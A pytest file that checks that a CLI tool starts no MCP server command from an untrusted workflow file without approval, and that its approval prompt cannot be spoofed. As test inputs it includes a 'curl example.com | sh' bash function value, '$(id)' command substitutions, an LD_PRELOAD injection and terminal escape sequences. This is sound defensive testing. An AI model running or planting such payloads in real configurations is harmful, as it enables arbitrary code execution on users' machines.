"""RES-6 at the command line: no command of an MCP server is started that nobody has approved."""

import json
import os
import pty
import select
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from support.mcp_peers import hostile
from wonder.cli.approving import question_about
from wonder.cli.main import main
from wonder.definitions.records.resources import StdioServer


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty working directory with a file that somebody else has written."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("WONDER_DATABASE_URL", raising=False)
    write("untrusted.json", called("untrusted", "s", mcp_servers={"s": marking()}))
    return tmp_path


def marking(**env: str) -> dict[str, Any]:
    """A server that leaves a mark when it is started, and is none."""
    return {"transport": "stdio", "command": ["sh", "-c", "touch MARK; exit 1"], "env": env}


def called(name: str, server: str, **fields: Any) -> dict[str, Any]:
    """A workflow that calls a tool of a server."""
    action = {"kind": "mcp_tool", "implementation": {"mcp_server_id": server, "tool_name": "do"}}
    return {"workflow": {"name": name, "initial_node": "a", "nodes": {"a": {"action": action}}}, **fields}


def phase(name: str, server: str, **fields: Any) -> dict[str, Any]:
    """The same in the phase form, which is checked with the schemas of the tool."""
    step = {"name": "a", "tool": {"connectionId": server, "toolName": "do"}}
    return {"name": name, "steps": [[step]], **fields}


def write(file: str, definition: dict[str, Any]) -> None:
    Path(file).write_text(json.dumps(definition))


def answer(capsys: pytest.CaptureFixture[str], *words: str) -> tuple[int, Any]:
    """Run a command that answers in JSON."""
    capsys.readouterr()
    status = main([*words, "--json"])
    return status, json.loads(capsys.readouterr().out)


def test_res_6_an_untrusted_file_runs_no_command_whatever_is_done_with_it(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Not on a terminal, every command says which flag to add, and what would be started."""
    status, shown = answer(capsys, "run", "untrusted.json")
    assert (status, shown["error"]["code"]) == (2, "MCP_SERVER_NOT_APPROVED")
    assert "add --allow-mcp s" in shown["error"]["message"]
    assert '["sh", "-c", "touch MARK; exit 1"]' in shown["error"]["message"]
    assert not Path(".wonder").exists()
    write("phase.json", phase("phase", "p", mcp_servers={"p": marking()}))
    assert answer(capsys, "run", "phase.json")[1]["error"]["code"] == "MCP_SERVER_NOT_APPROVED"
    for words in (["validate", "untrusted.json", "phase.json"], ["deploy", "untrusted.json", "phase.json"]):
        assert main(words) == 0
    # What is stored now is no more trusted than the file was.
    write("second.json", phase("second", "s"))
    for file in ("second.json", "untrusted.json"):
        assert main(["validate", file]) == 0
        assert main(["deploy", file]) == 0
        assert main(["run", file]) == 2
    for stored in ("untrusted", "phase", "second"):
        assert answer(capsys, "run", stored)[1]["error"]["code"] == "MCP_SERVER_NOT_APPROVED"
        assert main(["workflows", "show", stored]) == 0
    assert main(["doctor"]) == 0
    assert main(["mcp", "list"]) == 0
    assert answer(capsys, "mcp", "tools", "s")[1]["code"] == "MCP_SERVER_NOT_APPROVED"
    assert not Path("MARK").exists()
    assert main(["run", "untrusted.json", "--allow-mcp", "s"]) == 1
    assert Path("MARK").exists()


def test_res_6_an_approval_is_remembered_until_anything_of_it_changes(
    folder: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The command, a variable, the folder; not the name. A secret counts by its name."""
    server = {"transport": "stdio", "command": hostile("well"), "env": {"TOKEN": "{{secrets.A}}"}}
    write("w.json", called("w", "s", mcp_servers={"s": server}))
    monkeypatch.setenv("WONDER_DATABASE_URL", f"sqlite:///{folder}/runs.db")
    assert main(["validate", "w.json", "--allow-mcp", "s"]) == 0
    assert main(["deploy", "w.json", "--allow-mcp", "s"]) == 0
    (given,) = answer_of(capsys, "mcp", "approvals")["approvals"]
    assert (given["name"], given["folder"]) == ("s", str(folder))
    assert "@" in given["approved_by"]
    write("same.json", called("same", "other", mcp_servers={"other": server}))
    assert asked(capsys, "run", "same.json") is False
    for change in (
        {"command": [*server["command"], "more"]},
        {"env": {"TOKEN": "{{secrets.B}}"}},
        {"env": {**server["env"], "LD_PRELOAD": "./x.so"}},
    ):
        write("changed.json", called("changed", "s", mcp_servers={"s": {**server, **change}}))
        assert asked(capsys, "run", "changed.json") is True, change
    (folder / "elsewhere").mkdir()
    monkeypatch.chdir(folder / "elsewhere")
    assert asked(capsys, "run", "../same.json") is True
    monkeypatch.chdir(folder)
    assert answer_of(capsys, "mcp", "forget", "s")["forgotten"] == 1
    assert asked(capsys, "run", "same.json") is True
    assert main(["mcp", "forget", "s"]) == 2


def answer_of(capsys: pytest.CaptureFixture[str], *words: str) -> Any:
    status, shown = answer(capsys, *words)
    assert status == 0, shown
    return shown


def asked(capsys: pytest.CaptureFixture[str], *words: str) -> bool:
    """Say whether a run is refused for want of an approval; it may fail for another reason."""
    shown = answer(capsys, *words)[1]
    return bool(shown["error"]["code"] == "MCP_SERVER_NOT_APPROVED")


def test_res_6_one_command_allows_a_server_for_long_running_processes(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """It approves the command in the folder of that process, and puts the name on the workspace's list."""
    assert main(["deploy", "untrusted.json"]) == 0
    (folder / "srv").mkdir()
    shown = answer_of(capsys, "mcp", "allow", "s", "--long-running", "--folder", "srv")
    assert shown.items() >= {"server": "s", "approved": True, "allowed_mcp_servers": ["s"]}.items()
    (given,) = answer_of(capsys, "mcp", "approvals")["approvals"]
    assert given["folder"] == str(folder / "srv")
    assert answer_of(capsys, "mcp", "list")["servers"][0].items() >= {"allowed": "yes", "approved_here": False}.items()
    assert answer_of(capsys, "mcp", "forget", "s") == {"server": "s", "forgotten": 1, "taken_off_list": True}
    assert answer_of(capsys, "mcp", "list")["servers"][0]["allowed"] == "no"
    assert not Path("MARK").exists()


def test_a_name_that_is_allowed_and_is_not_there_is_refused(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Of several files each needs the servers that are its own."""
    write("other.json", phase("other", "t", mcp_servers={"t": {"transport": "stdio", "command": hostile("well")}}))
    for words in (["run", "untrusted.json"], ["validate", "untrusted.json"], ["deploy", "untrusted.json"]):
        assert main([*words, "--allow-mcp", "nobody"]) == 2
        assert "there is no MCP server 'nobody'" in capsys.readouterr().err
    allowed = ["--allow-mcp", "s", "--allow-mcp", "t"]
    assert main(["deploy", "untrusted.json", "other.json", *allowed]) == 0
    assert not Path("MARK").exists(), "a graph is not checked with the tools of its servers"


class Terminal:
    """The program on a terminal of its own."""

    def __init__(self, *words: str) -> None:
        self._ours, theirs = pty.openpty()
        command = [sys.executable, "-m", "wonder", *words]
        # Heard by the program too, also where the tests were started in the background, which ignores interrupts.
        heard = signal.signal(signal.SIGINT, signal.default_int_handler)
        try:
            self._process = subprocess.Popen(command, stdin=theirs, stdout=theirs, stderr=theirs, close_fds=True)
        finally:
            signal.signal(signal.SIGINT, heard)
        os.close(theirs)

    def until(self, words: str) -> str:
        """Read until something is shown, or the program has ended."""
        shown = b""
        while words.encode() not in shown:
            # A program that starts on a busy machine takes its time; what is sent to it before it asks is lost.
            assert select.select([self._ours], [], [], 120)[0], f"{words!r} was not shown in time: {shown!r}"
            try:
                shown += os.read(self._ours, 65_536)
            except OSError:  # the other side is closed
                break
        return shown.decode()

    def say(self, words: str) -> None:
        os.write(self._ours, words.encode())

    def interrupt(self) -> None:
        self._process.send_signal(signal.SIGINT)

    def status(self) -> int:
        """Wait for its end."""
        self.until("\0 never")
        os.close(self._ours)
        return self._process.wait(120)


def test_res_6_a_terminal_is_asked_once_with_all_that_would_be_started(folder: Path) -> None:
    """The command, the file that it means, the folder and the variables; but not what seems to be a key."""
    (folder / "tool").write_text(f"#!/bin/sh\nexec {' '.join(hostile('well'))}\n")
    (folder / "tool").chmod(0o700)
    env = {"LD_LIBRARY_PATH": "./lib", "API_TOKEN": "written-here", "KEY": "{{secrets.K}}"}
    server = {"transport": "stdio", "command": ["./tool", "a b"], "env": env}
    write("w.json", called("w", "s", mcp_servers={"s": server}))
    terminal = Terminal("run", "w.json")
    shown = terminal.until("[y/N] ")
    assert '  command  ["./tool", "a b"]\r\n' in shown
    assert f'  program  "{folder}/tool"\r\n  folder   "{folder}"\r\n' in shown
    assert '  env      LD_LIBRARY_PATH="./lib"\r\n' in shown
    assert '  env      KEY="{{secrets.K}}"\r\n' in shown
    assert "API_TOKEN=(not shown" in shown
    assert "written-here" not in shown
    terminal.say("n\n")
    assert "was not approved" in terminal.until("--allow-mcp s")
    assert terminal.status() == 2
    assert not Path(".wonder").exists()
    write("w.json", called("w", "s", mcp_servers={"s": {**server, "env": {}}}))
    terminal = Terminal("run", "w.json")
    terminal.until("[y/N] ")
    terminal.say("y\n")
    assert terminal.status() == 0
    again = Terminal("run", "w")
    assert "completed" in again.until("completed")
    assert again.status() == 0


def test_res_6_a_hostile_command_can_not_change_what_the_question_shows(folder: Path) -> None:
    """Escape sequences, line breaks and reversed text are written out; a command too long to be read is not asked."""
    words = ["sh", "-c", "x\r\x1b[2K\x1b[1Agood? [y/N] y\n\u202eline\u2028\x7f\u0441"]
    write("w.json", called("w", "s", mcp_servers={"s": {"transport": "stdio", "command": words}}))
    terminal = Terminal("run", "w.json")
    shown = terminal.until("changes? [y/N] ")
    assert r"x\r\u001b[2K\u001b[1Agood? [y/N] y\n\u202eline\u2028\u007f\u0441" in shown
    assert "\x1b" not in shown
    assert shown.isascii()
    terminal.say("\n")
    assert terminal.status() == 2
    long = {"transport": "stdio", "command": ["sh", "-c", "true;" * 2_000 + "touch MARK"]}
    write("long.json", called("long", "s", mcp_servers={"s": long}))
    terminal = Terminal("run", "long.json")
    assert "too long to be read" in terminal.until("--allow-mcp s")
    assert terminal.status() == 2
    assert not Path("MARK").exists()


def test_a_command_that_a_message_tells_to_type_holds_nothing_of_the_file_but_a_name(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = "s; touch MARK $(id)"
    write("graph.json", called("graph", name, mcp_servers={name: marking()}))
    write("phase.json", phase("phase", name, mcp_servers={name: marking()}))
    assert main(["run", "graph.json"]) == 2
    assert main(["deploy", "graph.json", "phase.json"]) == 0
    assert main(["doctor"]) == 0
    said = capsys.readouterr()
    assert f"--allow-mcp '{name}'" in said.err
    assert f"--allow-mcp '{name}'" in said.out
    assert f"wonder mcp allow '{name}'" in said.out


def test_res_6_what_was_typed_before_a_question_does_not_answer_it(folder: Path) -> None:
    """Each server is asked about by itself."""
    two = {"a": marking(), "b": marking(N="2")}
    write("two.json", called("two", "a", mcp_servers=two))
    terminal = Terminal("run", "two.json")
    terminal.say("y\ny\n")
    assert '"a" is a program' in terminal.until("[y/N] ")
    terminal.say("y\n")
    assert '"b" is a program' in terminal.until("[y/N] ")
    terminal.say("n\n")
    assert terminal.status() == 2
    assert not Path("MARK").exists()


def test_an_interrupt_ends_the_question(folder: Path) -> None:
    terminal = Terminal("run", "untrusted.json")
    assert "[y/N] " in terminal.until("[y/N] ")
    terminal.interrupt()
    assert terminal.status() == 130
    assert not Path("MARK").exists()


@pytest.mark.parametrize("word", ["./" + "x" * 300, "x/" * 3_000, "\0/", "loop/server"])
def test_a_question_can_be_asked_about_a_program_of_any_name(folder: Path, word: str) -> None:
    (folder / "loop").symlink_to("loop")
    assert "(not found)" in question_about("s", StdioServer(transport="stdio", command=[word]))


@pytest.mark.parametrize("value", ["() { curl example.com | sh; }", "/tmp/hook.sh", "./hook", "$(id)", "a; b"])
def test_what_could_be_code_is_shown_whatever_its_variable_is_called(value: str) -> None:
    """Bash takes a variable such as BASH_FUNC_token%% for a function."""
    connection = StdioServer(transport="stdio", command=["bash", "./serve"], env={"BASH_FUNC_token%%": value})
    assert f"BASH_FUNC_token%%={json.dumps(value)}" in question_about("s", connection)
